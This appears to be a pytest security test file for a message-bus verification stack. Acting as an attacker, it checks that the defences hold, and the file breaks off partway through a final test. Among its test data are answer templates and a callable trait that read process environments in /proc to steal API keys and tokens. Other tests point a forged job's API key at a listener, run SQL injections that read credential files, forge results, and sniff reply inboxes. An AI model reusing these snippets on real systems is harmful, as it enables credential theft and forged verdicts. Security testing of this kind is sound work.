"""Issue 10, items 1, 4-7 replayed against a real local stack (`veribus up`: nats-server with
per-role auth, the simulator, every service) as an attacker would: nats-py directly, with no
credentials, with a service's credentials, with the operator's; a forged job pointing the
service's key at a listener; a 5,000-character result_id; forged dead letters and results; a
heavy query during a run; templates and a callable trait that read the service's environment
from /proc and raise it. Afterwards every file, stream message, row and export is searched
for the planted key.
"""

from __future__ import annotations

import asyncio
import json
import logging
import os
import stat
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import msgspec
import nats
import pytest
import yaml
from nats.js.errors import NotFoundError

from shared.analysis.export import export_run
from shared.control import processes, runner, streams, wait
from shared.core import events
from shared.core.benchmark.model import Benchmark
from shared.core.config import ModelConfig, Settings, VerificationConfig
from shared.runtime import bus, bus_auth
from shared.store.reads import QueryError, run_query
from tests.support.stack import (
    Stack,
    generated_benchmark,
    results_of,
    start_stack,
    stop_stack,
    sync,
    wait_projected,
    wait_projector_idle,
    wait_results,
)

PLANTED = "sk-planted-" + os.urandom(12).hex()  # never a real key
PLANTED_TOKEN = "tok-planted-" + os.urandom(12).hex()

PROC_LEAK_TEMPLATE = '''from typing import ClassVar
from karenina.schemas.entities import BaseAnswer
from pydantic import Field
import os

def _steal():
    found = []
    for path in ("/proc/%d/environ" % os.getppid(), "/proc/self/environ"):
        try:
            raw = open(path, "rb").read().decode("utf-8", "replace")
            found += [kv for kv in raw.split("\\x00") if "KEY" in kv or "TOKEN" in kv]
        except Exception as exc:
            found.append(repr(exc))
    found += ["%s=%s" % kv for kv in os.environ.items() if "KEY" in kv[0] or "TOKEN" in kv[0]]
    return " | ".join(found) or "nothing found"

class Answer(BaseAnswer):
    value: int = Field(description="The number asked for")
    LEAK: ClassVar[str] = _steal()  # class-body code

    def model_post_init(self, __context):
        self.correct = {"value": 0}

    def verify(self) -> bool:
        raise RuntimeError("stolen: " + self.LEAK + " / " + _steal())
'''

CALLABLE_LEAK = '''def evaluate(trace: str) -> bool:
    import os
    data = []
    for path in ("/proc/%d/environ" % os.getppid(), "/proc/self/environ"):
        try:
            raw = open(path, "rb").read().decode("utf-8", "replace")
            data += [kv for kv in raw.split("\\x00") if "KEY" in kv or "TOKEN" in kv]
        except Exception as exc:
            data.append(repr(exc))
    data += ["%s=%s" % kv for kv in os.environ.items() if "KEY" in kv[0] or "TOKEN" in kv[0]]
    raise RuntimeError("callable stole: " + " | ".join(data))
'''
@pytest.fixture(scope="module")
def tstack(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Stack]:
    home = tmp_path_factory.mktemp("trust") / "home"
    st = start_stack(home, extra_env={"OPENAI_API_KEY": PLANTED, "VB_PLANTED_TOKEN": PLANTED_TOKEN,
                                      "VERIBUS_QUERY_TIMEOUT_S": "60"})
    try:
        yield st
    finally:
        stop_stack(st)


def _as(st: Stack, role: str | None, **kw: Any) -> Settings:
    """The stack's settings with another role's credentials (None: no credentials at all)."""
    if role is None:
        return Settings(home=Path(st.settings.home) / "nowhere", nats_url=st.settings.nats_url)
    return st.settings.model_copy(update={"nats_role": role, **kw})


async def _connect(settings: Settings, errors: list[str]) -> nats.NATS:
    async def on_error(exc: Exception) -> None:
        errors.append(str(exc))

    opts = bus.connect_options(settings)
    opts.update(allow_reconnect=False, max_reconnect_attempts=0, error_cb=on_error)
    return await nats.connect(**opts)


def _forged_result(run_id: str, rid: str) -> events.Envelope:
    """A passing `result.finalized` envelope made by an attacker, to be stored some other way."""
    return events.make_envelope(events.RESULT_FINALIZED, run_id, rid, events.ResultFinalized(result={"forged": 1}),
                                "attacker")


async def _stored(st: Stack, subject: str) -> bool:
    nc = await bus.connect(_as(st, "admin"))
    try:
        await nc.jetstream().get_last_msg(events.STREAM, subject, direct=True)
        return True
    except NotFoundError:
        return False
    finally:
        await nc.close()


def _run(st: Stack, path: Path, config: VerificationConfig) -> runner.RunPlan:
    plan = runner.plan_run(Benchmark.load(path), config)
    sync(runner.submit(st.settings, plan))
    return plan


# ------------------------------------------------------------------ item 6: open by default


def test_stack_files_are_private(tstack: Stack) -> None:
    home = Path(tstack.settings.home)
    assert stat.S_IMODE(home.stat().st_mode) == 0o700
    for f in (home / "stack.json", bus_auth.credentials_path(home), bus_auth.auth_dir(home) / "nats-auth.conf"):
        assert stat.S_IMODE(f.stat().st_mode) == 0o600, f
    checked = 0
    for sub in ("logs", "nats", "chdb"):
        for p in (home / sub).rglob("*"):
            if p.is_symlink():  # chdb links database names to their folders; the targets are checked
                continue
            mode = stat.S_IMODE(p.stat().st_mode)
            assert mode & 0o077 == 0, f"{p} is readable by others: {oct(mode)}"
            checked += 1
    assert checked > 10
    # no NATS secret in any service's environment (templates could read it there)
    import psutil

    for p in tstack.reload().procs:
        if p.name in ("nats", "simulator"):
            continue
        env = psutil.Process(p.pid).environ()
        assert "VERIBUS_NATS_PASSWORD" not in env and "VERIBUS_NATS_TOKEN" not in env
        assert env.get("VERIBUS_NATS_ROLE") == p.name.split("-")[0]
        # provider keys only where model calls are made
        assert (env.get("OPENAI_API_KEY") == PLANTED) is (p.name not in ("projector", "finalization")), p.name


def test_no_credentials_no_bus(tstack: Stack) -> None:
    errors: list[str] = []
    refused = (nats.errors.Error, OSError, TimeoutError)
    with pytest.raises(refused) as ei:
        sync(_connect(_as(tstack, None), errors))
    assert "authorization" in (str(ei.value) + " ".join(errors)).lower()
    wrong = _as(tstack, "cli", nats_user="vb-cli", nats_password="guessed")
    with pytest.raises(refused):
        sync(_connect(wrong, []))


def test_roles_limit_what_each_may_publish_and_read(tstack: Stack) -> None:
    run_id = "forgery-run"

    async def attempt(role: str, rid: str) -> dict[str, Any]:
        errors: list[str] = []
        nc = await _connect(_as(tstack, role), errors)
        out: dict[str, Any] = {}
        try:
            fake = events.make_envelope(events.RESULT_FINALIZED, run_id, rid,
                                        events.ResultFinalized(result={"forged": True}), "attacker")
            await nc.publish(fake.subject, events.encode(fake))
            dl = events.make_envelope(events.DEAD_LETTER, run_id, rid, events.DeadLetter(
                subject=events.subject(events.ANSWER_REQUESTED, run_id, rid), consumer="x", error="x", deliveries=1),
                "attacker")
            await nc.publish(dl.subject, events.encode(dl))
            try:  # the query endpoint, as this role
                await nc.request(events.QUERY_SUBJECT, b'{"sql": "SELECT 1"}', timeout=3)
                out["query"] = True
            except Exception:  # noqa: BLE001 - no reply: refused
                out["query"] = False
            try:  # read the whole stream
                sub = await nc.subscribe("vb.>")
                await nc.flush()
                await asyncio.sleep(0.3)
                out["sub_ok"] = not any("subscription" in e.lower() for e in errors)
                await sub.unsubscribe()
            except Exception:  # noqa: BLE001
                out["sub_ok"] = False
            await nc.flush()
            await asyncio.sleep(0.3)
        finally:
            out["errors"] = list(errors)
            await nc.close()
        return out

    for i, role in enumerate(("cli", "generation", "guards", "projector")):
        rid = f"{i:016x}"
        got = sync(attempt(role, rid))
        assert any("permissions violation" in e.lower() for e in got["errors"]), (role, got)
        assert not sync(_stored(tstack, events.subject(events.RESULT_FINALIZED, run_id, rid))), role
        # a dead letter is a stage service's output; the operator and the projector cannot make one
        may_dead_letter = role in ("generation", "guards")
        assert sync(_stored(tstack, events.subject(events.DEAD_LETTER, run_id, rid))) is may_dead_letter, role
        assert got["query"] is (role == "cli"), role  # a service role cannot query ("nobody" cannot connect)
        assert got["sub_ok"] is False, role


def test_a_stage_waiting_on_a_shared_model_limit_is_seen_at_once_by_the_holder(tstack: Stack) -> None:
    """Two stages share one endpoint limit, each with its own role's credentials. The answering
    stage holds every slot with work queued; the parsing stage's wait, written to the ledger, must
    reach it through its watch so it sheds to a fair share within a call or two. When the service
    roles could not subscribe to the ledger's KV subject the watch failed silently and parsing
    starved until the holder's lease renewal, seconds later (measured: 1,000 answers first)."""
    from shared.core.events import ModelSpec
    from shared.runtime.limits import deployment_limiter

    answerer = ModelSpec(model_name="openai/a", api_base="http://gpu-box:8000/v1", limit_scope="endpoint",
                         max_concurrency=16)
    judge = msgspec.structs.replace(answerer, model_name="openai/b")

    async def main() -> tuple[float, list[str]]:
        errors: list[str] = []
        gen_nc = await _connect(_as(tstack, "generation"), errors)
        par_nc = await _connect(_as(tstack, "parsing"), errors)
        gen, par = deployment_limiter(gen_nc, "generation@test"), deployment_limiter(par_nc, "parsing@test")
        stop = asyncio.Event()

        async def answering() -> None:  # a stage with a backlog: a slot is reused as soon as it frees
            while not stop.is_set():
                lease = await gen.acquire(answerer)
                await asyncio.sleep(0.1)
                gen.release(lease)

        workers = [asyncio.ensure_future(answering()) for _ in range(32)]
        try:
            await asyncio.sleep(1.0)  # the answering stage holds all 16
            t0 = time.monotonic()
            lease = await asyncio.wait_for(par.acquire(judge), 30)
            waited = time.monotonic() - t0
            par.release(lease)
        finally:
            stop.set()
            await asyncio.gather(*workers)
            await gen.close()
            await par.close()
            await gen_nc.close()
            await par_nc.close()
        return waited, errors

    waited, errors = sync(main())
    assert not [e for e in errors if "permissions violation" in e.lower()], errors
    assert waited < 1.5, f"the parsing stage waited {waited:.2f} s for its first slot"


def test_a_refused_subscription_is_logged_as_a_warning(tstack: Stack, caplog: pytest.LogCaptureFixture) -> None:
    """nats-py reports a subscription the server refuses only to the error callback; the call
    itself succeeds and the subscriber silently gets nothing. A service must say so in its log."""
    async def main() -> None:
        nc = await bus.connect(_as(tstack, "guards"))  # the services' own connect options
        try:
            await nc.subscribe("vb.>")  # the whole stream: not this role's to read
            await nc.flush()
            await asyncio.sleep(0.5)
        finally:
            await nc.close()

    with caplog.at_level(logging.WARNING, logger="veribus.bus"):
        sync(main())
    refused = [r for r in caplog.records if r.name == "veribus.bus" and r.levelno == logging.WARNING
               and "permissions violation" in r.getMessage().lower()]
    assert refused and "vb.>" in refused[0].getMessage()


# ------------------------------------------------------ item 5: forged jobs and dead letters


def test_forged_job_cannot_send_the_key_elsewhere(tstack: Stack, tmp_path: Path) -> None:
    hits: list[bytes] = []
    ready = threading.Event()
    stop = threading.Event()
    port_box: list[int] = []

    def listener() -> None:
        async def main() -> None:
            async def on_conn(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
                hits.append(await reader.read(65536))
                writer.close()

            server = await asyncio.start_server(on_conn, "127.0.0.1", 0)
            port_box.append(server.sockets[0].getsockname()[1])
            ready.set()
            while not stop.is_set():
                await asyncio.sleep(0.1)
            server.close()

        asyncio.run(main())

    t = threading.Thread(target=listener)
    t.start()
    try:
        ready.wait(10)
        attacker = f"http://127.0.0.1:{port_box[0]}/v1"
        path, script = generated_benchmark(tmp_path / "b.yaml", 3, rubric=False, prefix="Forged")
        tstack.post_script(script)
        cfg = VerificationConfig(
            answering_models=[ModelConfig(model_name="openai/gpt-4.1-mini", api_base=attacker,
                                          api_key_env="OPENAI_API_KEY", max_retries=0, timeout=5)],
            parsing_models=[tstack.model("sim-judge")])
        plan = _run(tstack, path, cfg)
        wait_results(tstack, plan.run_id, 3)
        res = results_of(tstack, plan.run_id)
        # and the services are unharmed: a normal run right after
        ok = _run(tstack, path, tstack.config(mode="template_only"))
        wait_results(tstack, ok.run_id, 3)
        ok_res = results_of(tstack, ok.run_id)
    finally:
        stop.set()
        t.join(10)
    assert hits == [], "the service connected to the attacker's endpoint"
    assert len(res) == 3
    for r in res.values():
        assert not r.metadata.completed_without_errors
        assert "endpoint_refused" in (r.metadata.error or "") and PLANTED not in (r.metadata.error or "")
    assert len(ok_res) == 3 and all(r.metadata.completed_without_errors for r in ok_res.values())


def test_oversized_result_id_is_dead_lettered_once_and_nothing_wedges(tstack: Stack, tmp_path: Path) -> None:
    gen_pid = tstack.proc("generation").pid
    path, script = generated_benchmark(tmp_path / "b.yaml", 4, rubric=False, prefix="Wedge")
    tstack.post_script(script)
    plan = runner.plan_run(Benchmark.load(path), tstack.config(mode="template_only"))
    job = plan.requests[0].jobs[0]
    long_id = "a" * 5000
    forged_job = msgspec.structs.replace(job, result_id=long_id, answer_id=long_id, run_id=plan.run_id)
    env = events.make_envelope(events.ANSWER_REQUESTED, plan.run_id, long_id,
                               events.AnswerRequested(jobs=[forged_job]), "attacker")
    subject = events.subject(events.ANSWER_REQUESTED, plan.run_id, "wedge0000000001")

    async def forge() -> None:
        nc = await bus.connect(tstack.settings)  # the operator's role may request answers
        try:
            await nc.jetstream().publish(subject, events.encode(env), stream=events.STREAM)
        finally:
            await nc.close()

    sync(forge())
    sync(runner.submit(tstack.settings, plan))  # the real run, after the forged message
    wait_results(tstack, plan.run_id, 4)
    assert tstack.proc("generation").pid == gen_pid and tstack.proc("generation").alive()
    res = results_of(tstack, plan.run_id)
    assert len(res) == 4 and all(r.metadata.completed_without_errors for r in res.values())

    async def dead_letters() -> list[events.Envelope]:
        nc = await bus.connect(tstack.settings)
        try:
            return await streams.read_events(nc.jetstream(), events.subject(events.DEAD_LETTER, plan.run_id, "*"))
        finally:
            await nc.close()

    dls = sync(dead_letters())
    assert len(dls) == 1, "dead-lettered once, not once per delivery"
    dl = events.payload_as(dls[0], events.DeadLetter)
    assert dls[0].result_id == "wedge0000000001" and dl.consumer == "generation" and dl.deliveries == 1
    assert "result_id" in dl.error and len(dl.error) < 2100
    # and a second run afterwards still gets all its results: the service was never wedged
    again = _run(tstack, path, tstack.config(mode="template_only"))
    wait_results(tstack, again.run_id, 4)


def test_forged_dead_letters_do_not_end_a_run(tstack: Stack, tmp_path: Path) -> None:
    """The operator's role cannot publish dead letters or results; `collect` (what `veribus run`
    waits with) ends only on result.finalized, so the run gets every real result."""
    path, script = generated_benchmark(tmp_path / "b.yaml", 6, rubric=False, prefix="Deadforge")
    tstack.post_script(script)
    plan = runner.plan_run(Benchmark.load(path), tstack.config(mode="template_only"))

    async def forge_then_collect() -> runner.RunOutcome:
        errors: list[str] = []
        nc = await _connect(tstack.settings, errors)
        try:
            for rid in plan.result_ids:
                for et, payload in ((events.DEAD_LETTER, events.DeadLetter(subject="x", consumer="x", error="forged",
                                                                          deliveries=1)),
                                    (events.RESULT_FINALIZED, events.ResultFinalized(result={"forged": True}))):
                    env = events.make_envelope(et, plan.run_id, rid, payload, "attacker")
                    await nc.publish(env.subject, events.encode(env))
            await nc.flush()
        finally:
            await nc.close()
        await runner.submit(tstack.settings, plan)
        return await runner.collect(tstack.settings, plan.run_id, set(plan.result_ids), timeout=180)

    outcome = sync(forge_then_collect())
    assert not outcome.timed_out and outcome.dead_letters == []
    assert len(outcome.results) == 6 and all(r.metadata.completed_without_errors for r in outcome.results.values())


def test_cli_cannot_reconfigure_the_stream_into_making_verdicts(tstack: Stack) -> None:
    """The operator's role may not publish `vb.result.finalized`, but it could change the stream:
    a subject transform stored what it may publish (`vb.run.cancelled.R.X`) as
    `vb.result.finalized.R.X`; a new stream's republish, or a write to a response cache, would
    do as well. Each is refused, and nothing lands on the verdict subject."""
    from nats.js.api import RePublish, StreamConfig, SubjectTransform  # noqa: PLC0415

    run_id, rid = "reconf-run", "0f0f0f0f0f0f0f0f"
    forged = _forged_result(run_id, rid)
    original: dict[str, Any] = {}

    async def attack() -> list[str]:
        errors: list[str] = []
        nc = await _connect(_as(tstack, "cli"), errors)
        js = nc.jetstream(timeout=3)
        refused = []
        try:
            cfg = (await js.stream_info(events.STREAM)).config
            original["config"] = cfg.as_dict()
            cfg.subject_transform = SubjectTransform(src="vb.run.cancelled.*.*",
                                                     dest="vb.result.finalized.{{wildcard(1)}}.{{wildcard(2)}}")
            evil = StreamConfig(name="EVIL", subjects=["_INBOX.evil.>"],
                                republish=RePublish(src="_INBOX.evil.>", dest=forged.subject))
            for what, op in (("update", js.update_stream(cfg)), ("create", js.add_stream(evil))):
                try:
                    await op
                except Exception:  # noqa: BLE001 - refused: no answer
                    refused.append(what)
            await nc.publish(events.subject(events.RUN_CANCELLED, run_id, rid), events.encode(forged))
            await nc.publish("_INBOX.evil.x", events.encode(forged))
            await nc.publish("$KV.vb_llm_cache_shared.planted", b'{"text": "{\\"value\\": 0}"}')
            await nc.flush()
            await asyncio.sleep(0.5)
            return refused
        finally:
            await nc.close()

    async def cache_planted() -> bool:
        nc = await bus.connect(_as(tstack, "admin"))
        try:
            await nc.jetstream().get_last_msg("KV_vb_llm_cache_shared", "$KV.vb_llm_cache_shared.planted")
            return True
        except Exception:  # noqa: BLE001 - no bucket, or no such key
            return False
        finally:
            await nc.close()

    async def restore() -> None:  # as admin: what the attack changed, for the rest of the module
        nc = await bus.connect(_as(tstack, "admin"))
        js = nc.jetstream()
        try:
            if "config" in original:
                await js.update_stream(StreamConfig.from_response(dict(original["config"])))
            try:
                await js.delete_stream("EVIL")
            except NotFoundError:
                pass
        finally:
            await nc.close()

    try:
        refused = sync(attack())
        assert not sync(_stored(tstack, forged.subject)), "a verdict was stored from a subject cli may publish"
        assert refused == ["update", "create"]
        assert not sync(cache_planted())
    finally:
        sync(restore())


def test_a_consumer_re_pointed_at_another_type_makes_no_verdict(tstack: Stack, tmp_path: Path) -> None:
    """cli may create consumers of its own (it follows runs with them), and the server lets a
    create without a name in its subject update a durable by the name in its body: cli re-pointed
    `finalization-template` at `answer.generated`, which it may publish, and a template.verified
    payload that says the answer passed, published as answer.generated, was finalized as a passing
    result. cli may now create only consumers named in the subject, none a service's (both routes
    refused, `test_durable_guard.py` tries every other one); re-pointed anyway (as admin here), the
    finalizer still makes no verdict of an event that is not its consumer's type."""
    path, script = generated_benchmark(tmp_path / "b.yaml", 3, rubric=False, wrong_every=1, prefix="Repoint")
    tstack.post_script(script)
    plan = _run(tstack, path, tstack.config(mode="template_only"))
    wait_results(tstack, plan.run_id, 3)
    durable = "finalization-template"
    re_pointed = events.subscription(events.ANSWER_GENERATED)

    async def cli_attempts() -> tuple[list[str], str | None]:
        nc = await _connect(_as(tstack, "cli"), [])
        js = nc.jetstream(timeout=3)
        refused = []
        try:
            cfg = (await js.consumer_info(events.STREAM, durable)).config
            cfg.filter_subject = re_pointed
            try:  # the named create is the durable's own service's
                await js.add_consumer(events.STREAM, cfg)
            except Exception:  # noqa: BLE001
                refused.append("named")
            body = {"stream_name": events.STREAM, "config": {**cfg.as_dict(), "durable_name": None}}
            try:
                await nc.request(f"$JS.API.CONSUMER.CREATE.{events.STREAM}", json.dumps(body).encode(), timeout=3)
            except nats.errors.TimeoutError:
                refused.append("unnamed")
            return refused, (await js.consumer_info(events.STREAM, durable)).config.filter_subject
        finally:
            await nc.close()

    async def set_filter(subject: str) -> str:
        nc = await bus.connect(_as(tstack, "admin"))
        js = nc.jetstream()
        try:
            cfg = (await js.consumer_info(events.STREAM, durable)).config
            cfg.filter_subject = subject
            return (await js.add_consumer(events.STREAM, cfg)).config.filter_subject or ""
        finally:
            await nc.close()

    async def forge() -> None:
        nc = await _connect(_as(tstack, "cli"), [])
        js = nc.jetstream(timeout=3)
        try:
            tv = json.loads((await js.get_last_msg(events.STREAM, f"vb.template.verified.{plan.run_id}.{rid}",
                                                   direct=True)).data)
            _says_passed(tv["payload"]["state"])
            tv.update(occurred_at=time.time(), attempt_key="forged1")
            seq = (await js.publish(f"vb.answer.generated.{plan.run_id}.{rid}", json.dumps(tv).encode())).seq
            for _ in range(240):  # until the finalizer has taken it and acked (it publishes first)
                info = await js.consumer_info(events.STREAM, durable)
                if info.delivered.stream_seq >= seq and not info.num_ack_pending:
                    break
                await asyncio.sleep(0.25)
            else:
                raise AssertionError(f"the finalizer never took message {seq}")
        finally:
            await nc.close()

    rid = plan.result_ids[0]
    assert results_of(tstack, plan.run_id)[rid].template.verify_result is False  # every answer is wrong
    assert sync(cli_attempts()) == (["named", "unnamed"], events.subscription(events.TEMPLATE_VERIFIED))
    assert sync(set_filter(re_pointed)) == re_pointed
    try:
        sync(forge())
    finally:
        sync(set_filter(events.subscription(events.TEMPLATE_VERIFIED)))
    assert results_of(tstack, plan.run_id)[rid].template.verify_result is False  # no verdict came of it


def _says_passed(state: Any) -> None:
    """Every `*verif*` flag of a stage state that says failed, made to say passed."""
    if isinstance(state, dict):
        for k, v in state.items():
            if v is False and "verif" in k:
                state[k] = True
            else:
                _says_passed(v)
    elif isinstance(state, list):
        for v in state:
            _says_passed(v)


# -------------------------------------------------------------- item 4: the query endpoint


def test_query_endpoint_attacks_through_the_stack(tstack: Stack, tmp_path: Path) -> None:
    secret = tmp_path / "root-only"
    secret.write_text("ROOT-ONLY-" + os.urandom(6).hex())
    secret.chmod(0o600)
    for sql in (f"SELECT $$'$$ AS a, file('{secret}') AS b, 'x' AS c",
                "SELECT $$'$$ AS a, file('/proc/self/environ') AS b, 'x' AS c"):
        with pytest.raises(QueryError) as ei:
            run_query(tstack.settings, sql)
        assert "file()" in str(ei.value) and secret.read_text() not in str(ei.value) and PLANTED not in str(ei.value)


def test_query_parameters_cannot_read_the_credentials_through_the_projector(tstack: Stack) -> None:
    """A `cli` client asks the projector (as root, holding the stack's home) a query whose
    parameters clickhouse-connect would have formatted into its text after the guard read it:
    the value closes the checked literal and adds `SELECT file(<credentials.json>)`, which gave
    every role's password, `admin` included. And `merge('system', ...)` read system tables."""
    creds = bus_auth.credentials_path(Path(tstack.settings.home))
    admin_password = json.loads(creds.read_text())["admin"]["password"]
    path_sql = "char(" + ", ".join(str(ord(c)) for c in str(creds)) + ")"

    async def ask() -> list[dict[str, Any]]:
        nc = await _connect(_as(tstack, "cli"), [])
        try:
            out = []
            for body in ({"sql": "SELECT '%(x)s' AS a", "params": {"x": f" AS a; SELECT file({path_sql}) AS b; SELECT "}},
                         {"sql": "SELECT query FROM merge('system', '^processes$')"}):
                msg = await nc.request(events.QUERY_SUBJECT, json.dumps(body).encode(), timeout=60)
                out.append(json.loads(msg.data))
            return out
        finally:
            await nc.close()

    smuggled, system = sync(ask())
    assert admin_password not in json.dumps(smuggled)
    assert "placeholder" in (smuggled.get("error") or ""), smuggled
    assert "merge()" in (system.get("error") or ""), system
    assert run_query(tstack.settings, "SELECT {r:String} AS r", {"r": "x'y"}).rows == [("x'y",)]


def test_heavy_query_blocks_neither_queries_nor_a_run(tstack: Stack, tmp_path: Path) -> None:
    path, script = generated_benchmark(tmp_path / "b.yaml", 4, rubric=False, prefix="Heavy")
    tstack.post_script(script)
    box: dict[str, Any] = {}
    started = threading.Event()

    def heavy() -> None:
        started.set()
        try:
            box["rows"] = run_query(tstack.settings, "SELECT count() FROM numbers(100000000000) "
                                                     "WHERE sipHash64(number) = 7", timeout=120).rows
        except QueryError as exc:
            box["err"] = exc

    t = threading.Thread(target=heavy)
    t.start()
    started.wait(10)
    running = ("SELECT count() FROM events WHERE event_type = 'never' AND "
               "run_id = {r:String}")  # a cheap query that must answer while the heavy one runs
    light = run_query(tstack.settings, running, {"r": "x"}).rows
    plan = _run(tstack, path, tstack.config(mode="template_only"))
    done, timed_out = sync(wait.wait_for_results(tstack.settings, plan.run_id, count=4, timeout=120,
                                                      poll_s=0.25))
    wait_projected(tstack, plan.run_id, 4)  # ingestion went on
    heavy_still_running = t.is_alive()
    t.join(180)
    assert light == [(0,)]
    assert not timed_out and done == 4
    assert heavy_still_running, "the run and its rows had to wait for the heavy query"
    assert "err" in box and "TIMEOUT" in str(box["err"]).upper()


def test_huge_results_are_stopped_before_they_fill_the_projector(tstack: Stack) -> None:
    """Four analysts at once ask for ~300 MB of rows each (chdb does not enforce
    `max_result_bytes`): before, each result became Python rows and JSON before the 1 MB reply
    limit refused it, and four took the projector from 0.4 to 4 GB. Each now stops within its
    first block, and the projector's memory hardly moves."""
    import psutil

    projector = psutil.Process(tstack.proc("projector").pid)
    before = projector.memory_info().rss
    peak = [before]
    errors: list[str] = []

    def huge() -> None:
        try:
            run_query(tstack.settings, "SELECT repeat('x', 1000) AS s FROM numbers(300000)", timeout=120)
        except QueryError as exc:
            errors.append(str(exc))

    threads = [threading.Thread(target=huge) for _ in range(4)]
    for t in threads:
        t.start()
    while any(t.is_alive() for t in threads):
        peak.append(projector.memory_info().rss)
        time.sleep(0.02)
    assert len(errors) == 4, errors
    assert all("was stopped" in e and "first 8,192 rows" in e for e in errors), errors
    assert max(peak) - before < 512 * 2**20, f"the projector grew by {(max(peak) - before) >> 20} MB"
    assert run_query(tstack.settings, "SELECT 'after' AS a").rows == [("after",)]


# ---------------------------------------------------- item 1: the planted key goes nowhere


def test_planted_key_is_nowhere(tstack: Stack, tmp_path: Path) -> None:
    path, script = generated_benchmark(tmp_path / "b.yaml", 3, prefix="Planted")
    doc = yaml.safe_load(path.read_text())
    doc["questions"].append({"id": "proc-leak", "question": "Planted question leak: what is 0 plus 0?", "answer": "0",
                             "template": PROC_LEAK_TEMPLATE})
    doc["rubric"]["callable_traits"] = [{"name": "Stealer", "kind": "boolean", "callable_code": CALLABLE_LEAK}]
    path.write_text(yaml.safe_dump(doc, sort_keys=False))
    tstack.post_script({"questions": [*script["questions"],
                                      {"match": "Planted question leak", "answer": "0", "parsed": {"value": 0},
                                       "judge": {"Clarity": True}}]})
    plan = _run(tstack, path, tstack.config(mode="template_and_rubric"))
    wait_results(tstack, plan.run_id, 4)
    wait_projected(tstack, plan.run_id, 4)
    wait_projector_idle(tstack)
    res = results_of(tstack, plan.run_id)
    leak = next(r for r in res.values() if r.metadata.question_id == "proc-leak")
    assert not leak.metadata.completed_without_errors or leak.template.verify_result is not True
    exports = [Path(export_run(tstack.settings, plan.run_id, fmt, tmp_path / f"e.{fmt}").path)
               for fmt in ("json", "jsonl", "csv")]
    home = Path(tstack.settings.home)
    for secret in (PLANTED, PLANTED_TOKEN):
        needle = secret.encode()
        for sub in ("nats", "logs"):
            hits = [str(p) for p in (home / sub).rglob("*") if p.is_file() and needle in p.read_bytes()]
            assert hits == [], f"{secret[:12]} in {hits}"
        for table in ("events", "verification_results", "runs"):
            cols = [r[0] for r in run_query(tstack.settings, f"DESCRIBE TABLE {table}").rows]
            cond = " OR ".join(f"position(toString({c}), {{s:String}}) > 0" for c in cols)
            n = run_query(tstack.settings, f"SELECT count() FROM {table} WHERE {cond}", {"s": secret}).rows[0][0]
            assert n == 0, f"{secret[:12]} in {n} rows of {table}"
        for f in exports:
            assert needle not in f.read_bytes(), f
    # the search had something to search: the stolen text reached the result, redacted
    text = json.dumps(leak.model_dump(mode="json"))
    # the search had something to search: the stolen text reached the result, with the key
    # redacted, or the read itself was refused (a sandbox without /proc access)
    assert "stolen" in text and ("[REDACTED]" in text or "Error(" in text), text[:2000]
    traits = [json.dumps(r.model_dump(mode="json")) for r in res.values()]
    assert any("callable stole" in t for t in traits)
    assert all("callable stole" not in t or "[REDACTED]" in t or "Error(" in t for t in traits)


def test_dead_letter_of_a_running_job_becomes_its_finalized_error(tstack: Stack, tmp_path: Path) -> None:
    """A corrupt stage event for a running job (here: a `template.parsed` whose job belongs to
    another run, published where only a service could) is dead-lettered by verification; the
    job cannot finish through it, so the finalizer makes the job's finalized error result, and
    `collect` gets it. The other job of the run is untouched."""
    path, script = generated_benchmark(tmp_path / "b.yaml", 2, rubric=False, prefix="Stuck")
    tstack.post_script(script)
    plan = runner.plan_run(Benchmark.load(path), tstack.config(mode="template_only"))
    stuck, other = plan.result_ids
    processes.stop_proc(tstack.proc("parsing"))  # hold the jobs after the guards
    try:
        sync(runner.submit(tstack.settings, plan))
        checked = events.subject(events.GUARDS_CHECKED, plan.run_id, stuck)
        deadline = time.monotonic() + 120
        while not sync(_stored(tstack, checked)):
            assert time.monotonic() < deadline, "the guards never checked the job"
            threading.Event().wait(0.25)
        job = next(j for r in plan.requests for j in r.jobs if j.result_id == stuck)
        bad = msgspec.structs.replace(job, run_id="someone-elses-run")
        env = events.make_envelope(events.TEMPLATE_PARSED, plan.run_id, stuck,
                                   events.StageEvent(bad, events.State()), "corrupt")

        async def publish_corrupt() -> None:
            nc = await bus.connect(_as(tstack, "admin"))
            try:
                await bus.publish(nc.jetstream(), env)
            finally:
                await nc.close()

        sync(publish_corrupt())
        outcome = sync(runner.collect(tstack.settings, plan.run_id, {stuck}, timeout=120))
    finally:
        tstack.restart("parsing")
    assert not outcome.timed_out
    err = outcome.results[stuck].metadata
    assert not err.completed_without_errors and "dead-lettered by verification" in (err.error or "")
    wait_results(tstack, plan.run_id, 2)
    res = results_of(tstack, plan.run_id)
    assert res[other].metadata.completed_without_errors
    assert not res[stuck].metadata.completed_without_errors  # one finalized result, the error
    counts = sync(wait.finalized_counts(tstack.settings, plan.run_id))
    assert set(counts.values()) == {1}


# ------------------------------------------------------------- reply inboxes: one per role


def test_no_role_reads_or_answers_another_roles_replies(tstack: Stack) -> None:
    """Every request a process makes (a direct get of the stream: the finalizer's join, run
    control; a content or response-cache read; a publish's PubAck) is answered on its reply
    inbox. Every role could subscribe to `_INBOX.>` and `cli` could publish there, and the reply
    tokens are a counter: a `cli` client saw a service's reply subjects and answered its next
    reads before the server did (a forged event in the finalizer's join). As an attacker: sniff
    `_INBOX.>` while the finalization role reads a stored event, then answer the next reply
    tokens with a forged one, hundreds of times."""
    genuine = events.make_envelope(events.RUN_CANCELLED, "inbox-run", "_", events.RunControlChange(cancelled=False),
                                   "test")
    forged_body = b'{"forged": true}'

    async def attack() -> tuple[int, int, int, list[str]]:
        admin = await bus.connect(_as(tstack, "admin"))
        await admin.jetstream().publish(genuine.subject, events.encode(genuine))
        await admin.close()
        errors: list[str] = []
        victim = await bus.connect(_as(tstack, "finalization"))
        attacker = await _connect(_as(tstack, "cli"), errors)
        seen: list[str] = []
        stop = asyncio.Event()

        async def sniffed(msg: Any) -> None:
            seen.append(msg.subject)

        async def forge() -> None:  # answer the next few tokens after the last reply seen
            while not stop.is_set():
                if seen:
                    prefix, _, last = seen[-1].rpartition(".")
                    if last.isdigit():
                        for k in range(int(last) + 1, int(last) + 4):
                            await attacker.publish(f"{prefix}.{k}", forged_body, headers={
                                "Nats-Stream": events.STREAM, "Nats-Subject": genuine.subject,
                                "Nats-Sequence": "1", "Nats-Time-Stamp": "2026-01-01T00:00:00Z"})
